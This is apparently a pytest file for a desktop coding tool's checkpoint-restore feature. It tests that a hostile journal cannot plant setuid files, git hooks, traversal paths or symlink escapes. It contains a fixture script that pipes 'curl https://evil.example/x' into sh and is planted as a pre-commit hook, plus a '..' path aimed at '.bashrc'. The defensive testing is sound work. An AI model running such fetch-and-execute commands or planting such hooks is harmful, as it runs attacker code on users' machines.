"""Restore from a hostile checkpoint journal plants nothing, and the journal reader answers
absurd input with a located error (issue 32, item 2).

A journal from another machine chooses the paths, the content and the modes a restore writes.
Each test plants one attack of the issue and checks what lands on disk: a setuid,
world-writable ``tools/helper.sh``; ``readme.md`` made 0777; an executable
``.git/hooks/pre-commit``; a file in another trusted folder; a folder swapped for a link out of
the workspace between the preview and the restore; 3 MiB where Rho captures 2. Then the
reader: a 100,000-deep line, a NUL or ``..`` in a path, version 99 and bad base64 on the last
line, and a symlinked ``workspace-checkpoints/`` folder.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from rho_desk.core.changes import SessionChanges, session_changes
from rho_desk.core.changes.checkpoint import (
    Absent,
    BasicFileMetadata,
    CapturedRegularFile,
    CheckpointOutcome,
    FileCheckpoint,
    ObservedRegular,
    WorkspaceCheckpoint,
    checkpoint_json,
    encode_record,
    journal_path,
    read_journal,
    sha256_hex,
)
from rho_desk.core.changes.restore import (
    RestoreConflict,
    preview_restore,
    restore_file,
    undo_restore,
)
from rho_desk.core.errors import InputError, StorageError
from rho_desk.core.stores.rho_files import read_session
from rho_desk.core.tools.trust import TrustStore

from ..core.changes.helpers import SESSION_ID, coding_session
from .helpers import environment

SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def _captured(data: bytes, mode: int) -> CapturedRegularFile:
    return CapturedRegularFile(data, BasicFileMetadata(False, mode), sha256_hex(data))


def _observed(path: Path) -> ObservedRegular:
    data = path.read_bytes()
    return ObservedRegular(
        sha256_hex(data), len(data), BasicFileMetadata(False, stat.S_IMODE(path.stat().st_mode))
    )


class Planted:
    """A session in ``w/`` (trusted), and a journal whose one turn lists ``files``."""

    def __init__(self, tmp_path: Path) -> None:
        self.root = tmp_path
        self.workspace = tmp_path / "w"
        self.workspace.mkdir()
        self.session = coding_session(tmp_path / "rho", self.workspace)
        self.trust = TrustStore(tmp_path / "trust")
        self.trust.trust(self.workspace)

    def journal(self, *files: FileCheckpoint) -> SessionChanges:
        leaf = read_session(self.session).tree.active_leaf
        assert leaf is not None
        record = WorkspaceCheckpoint(
            SESSION_ID, leaf.id, leaf.revision, 1, 2, CheckpointOutcome.COMPLETED, files
        )
        journal = journal_path(self.session.parent)
        journal.parent.mkdir(exist_ok=True)
        journal.write_bytes(encode_record(record))
        return session_changes(self.session)

    def change(self, changes: SessionChanges, path: Path):  # type: ignore[no-untyped-def]
        return next(f for t in changes.turns for f in t.files if f.abs_path == str(path))

    def preview(self, changes: SessionChanges, path: Path):  # type: ignore[no-untyped-def]
        return preview_restore(self.change(changes, path), self.trust, workspace=changes.workspace)


def test_a_setuid_world_writable_mode_is_clamped_and_a_replaced_file_keeps_its_own(
    tmp_path: Path,
) -> None:
    planted = Planted(tmp_path)
    helper = (
        planted.workspace / "tools" / "helper.sh"
    )  # the turn "deleted" it: a restore creates it
    readme = planted.workspace / "readme.md"
    readme.write_text("mine\n")
    readme.chmod(0o644)
    changes = planted.journal(
        FileCheckpoint(str(helper), _captured(SCRIPT, 0o6777 | 0o1000), Absent()),
        FileCheckpoint(str(readme), _captured(b"theirs\n", 0o777), _observed(readme)),
    )
    preview = planted.preview(changes, helper)
    expected = 0o755 & ~_umask()
    assert preview.possible and preview.mode == expected
    assert any("mode" in note and "7777" in note for note in preview.notes), preview.notes
    assert any("executable" in note for note in preview.notes), preview.notes
    restore_file(preview, planted.trust)
    mode = stat.S_IMODE(helper.stat().st_mode)
    assert mode == expected and not mode & (stat.S_ISUID | stat.S_ISGID | stat.S_ISVTX | 0o022), (
        oct(mode)
    )
    preview = planted.preview(changes, readme)
    assert preview.mode == 0o644 and any(
        "kept from the file it replaces" in n for n in preview.notes
    )
    receipt = restore_file(preview, planted.trust)
    assert readme.read_bytes() == b"theirs\n" and stat.S_IMODE(readme.stat().st_mode) == 0o644
    undo_restore(receipt)
    assert readme.read_text() == "mine\n" and stat.S_IMODE(readme.stat().st_mode) == 0o644


def test_a_git_hook_is_restored_only_when_the_user_names_it(tmp_path: Path) -> None:
    planted = Planted(tmp_path)
    (planted.workspace / ".git" / "hooks").mkdir(parents=True)
    hook = planted.workspace / ".git" / "hooks" / "pre-commit"
    changes = planted.journal(FileCheckpoint(str(hook), _captured(SCRIPT, 0o755), Absent()))
    preview = planted.preview(changes, hook)
    assert preview.possible and ".git" in preview.named
    assert any("hook" in note for note in preview.notes) and any(
        "executable" in n for n in preview.notes
    )
    with pytest.raises(RestoreConflict, match="name the file"):
        restore_file(preview, planted.trust)
    with pytest.raises(RestoreConflict, match="name the file"):
        restore_file(preview, planted.trust, named="pre-commit")
    assert not hook.exists()
    restore_file(preview, planted.trust, named=".git/hooks/pre-commit")
    assert hook.read_bytes() == SCRIPT


def test_only_the_sessions_own_workspace_is_written(tmp_path: Path) -> None:
    planted = Planted(tmp_path)
    other = tmp_path / "other-project"
    other.mkdir()
    planted.trust.trust(other)  # trusted too, but not this session's folder
    planted_file = other / "Makefile"
    changes = planted.journal(FileCheckpoint(str(planted_file), _captured(SCRIPT, 0o644), Absent()))
    preview = planted.preview(changes, planted_file)
    assert not preview.possible and "outside the session's workspace" in preview.reason
    with pytest.raises(RestoreConflict):
        restore_file(preview, planted.trust)
    assert not planted_file.exists()


def test_a_folder_swapped_for_a_link_out_of_the_workspace_is_not_followed(tmp_path: Path) -> None:
    planted = Planted(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    folder = planted.workspace / "src"
    folder.mkdir()
    target = folder / "main.py"
    changes = planted.journal(FileCheckpoint(str(target), _captured(SCRIPT, 0o644), Absent()))
    preview = planted.preview(changes, target)
    assert preview.possible
    shutil.rmtree(folder)
    folder.symlink_to(outside)  # another process swaps it between the preview and the restore
    with pytest.raises((RestoreConflict, StorageError)):
        restore_file(preview, planted.trust)
    assert list(outside.iterdir()) == []
    # a link there from the start: the file counts as a link, nothing is offered
    assert not planted.preview(
        planted.journal(FileCheckpoint(str(target), _captured(SCRIPT, 0o644), Absent())), target
    ).possible


def test_content_larger_than_a_capture_is_refused(tmp_path: Path) -> None:
    planted = Planted(tmp_path)
    big = planted.workspace / "data.bin"
    changes = planted.journal(
        FileCheckpoint(str(big), _captured(b"x" * (3 * 1024 * 1024), 0o644), Absent())
    )
    preview = planted.preview(changes, big)
    assert not preview.possible and "more than Rho ever captures" in preview.reason
    assert not big.exists()


def test_a_nul_in_a_tool_calls_path_is_refused_not_a_crash(tmp_path: Path) -> None:
    from rho_desk.core.stores.rho_files import create_session
    from rho_desk.core.wire.model import Message
    from rho_desk.core.wire.snapshot import SessionSnapshot

    from ..core.changes.helpers import IDENTITY, assistant, result

    workspace = tmp_path / "w"
    workspace.mkdir()
    history = (
        Message.user_text("x"),
        assistant(("c1", "write", {"path": "a\0b", "content": "A"})),
        result("c1", "ok"),
    )
    with create_session(
        tmp_path / "rho", str(workspace), SessionSnapshot.new(SESSION_ID, 1, history, IDENTITY)
    ) as writer:
        path = writer.path
    changes = session_changes(path)
    trust = TrustStore(tmp_path / "trust")
    trust.trust(workspace)
    (change,) = [f for t in changes.turns for f in t.files]
    preview = preview_restore(change, trust, workspace=changes.workspace)
    assert not preview.possible and "NUL" in preview.reason


# -- the journal reader ----------------------------------------------------------------------------------


def _line(path: str = "/w/a.txt", version: int = 1, data: str | None = None) -> bytes:
    checkpoint = WorkspaceCheckpoint(
        SESSION_ID,
        "n1",
        1,
        1,
        2,
        CheckpointOutcome.COMPLETED,
        (FileCheckpoint(path, _captured(b"a", 0o644), Absent()),),
    )
    body = checkpoint_json(checkpoint)
    if data is not None:
        body["files"][0]["original"]["bytes"] = data
    return json.dumps({"version": version, "checkpoint": body}).encode() + b"\n"


def _good(node: str = "n0") -> bytes:
    return _line().replace(b'"n1"', f'"{node}"'.encode())


@pytest.mark.parametrize(
    ("last", "reason"),
    [
        (b"[" * 100_000 + b"]" * 100_000 + b"\n", "nesting is deeper"),
        (_line("/w/a\0.txt"), "NUL"),
        (_line("/w/../../home/u/.bashrc"), "`..`"),
        (_line(version=99), "unsupported workspace checkpoint version 99"),
        (_line(data="not base64!"), "not standard base64"),
    ],
    ids=["deep", "nul", "dotdot", "version", "base64"],
)
def test_a_bad_last_line_is_an_error_that_names_it(
    tmp_path: Path, last: bytes, reason: str
) -> None:
    journal = tmp_path / "workspace-checkpoints" / "checkpoints.jsonl"
    journal.parent.mkdir()
    journal.write_bytes(_good() + last)
    with pytest.raises(InputError) as caught:
        read_journal(journal)
    assert reason in caught.value.text() and f"{journal}:2" in caught.value.text()


def test_changes_on_a_100000_deep_line_is_exit_2_naming_the_line(tmp_path: Path) -> None:
    planted = Planted(tmp_path)
    planted.journal()
    journal = journal_path(planted.session.parent)
    journal.write_bytes(b"[" * 100_000 + b"]" * 100_000 + b"\n" + _good())
    out = subprocess.run(
        [sys.executable, "-m", "rho_desk", "changes", str(planted.session)],
        env=environment(tmp_path),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert (
        out.returncode == 2 and "Traceback" not in out.stderr and "RecursionError" not in out.stderr
    ), out.stderr
    assert f"{journal}:1" in out.stderr and "nesting is deeper" in out.stderr


def test_a_symlinked_checkpoint_folder_is_never_read(tmp_path: Path) -> None:
    planted = Planted(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "checkpoints.jsonl").write_bytes(_good())
    folder = journal_path(planted.session.parent).parent
    folder.symlink_to(elsewhere)
    with pytest.raises(InputError, match="symlink"):
        read_journal(journal_path(planted.session.parent))
    with pytest.raises(InputError, match="symlink"):
        session_changes(planted.session)


def test_a_fifo_in_the_journals_place_does_not_hang(tmp_path: Path) -> None:
    folder = tmp_path / "workspace-checkpoints"
    folder.mkdir()
    os.mkfifo(folder / "checkpoints.jsonl")
    with pytest.raises(InputError, match="not a regular file"):
        read_journal(folder / "checkpoints.jsonl")


def test_the_restore_dialog_shows_the_mode_flags_the_hook_and_wants_its_name_typed(
    qtbot, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    from rho_desk.qt.changes.view import RestoreDialog

    planted = Planted(tmp_path)
    (planted.workspace / ".git" / "hooks").mkdir(parents=True)
    hook = planted.workspace / ".git" / "hooks" / "pre-commit"
    changes = planted.journal(FileCheckpoint(str(hook), _captured(SCRIPT, 0o6777), Absent()))
    dialog = RestoreDialog(planted.preview(changes, hook))
    qtbot.addWidget(dialog)
    notes = dialog.notes.text()
    assert (
        f"mode {0o755 & ~_umask():04o}" in notes
        and "6777" in notes
        and "executable" in notes
        and "hook" in notes
    )
    assert not dialog.restore_button.isEnabled()
    dialog.name.setText("pre-commit")
    assert not dialog.restore_button.isEnabled()
    dialog.name.setText(".git/hooks/pre-commit")
    assert dialog.restore_button.isEnabled()
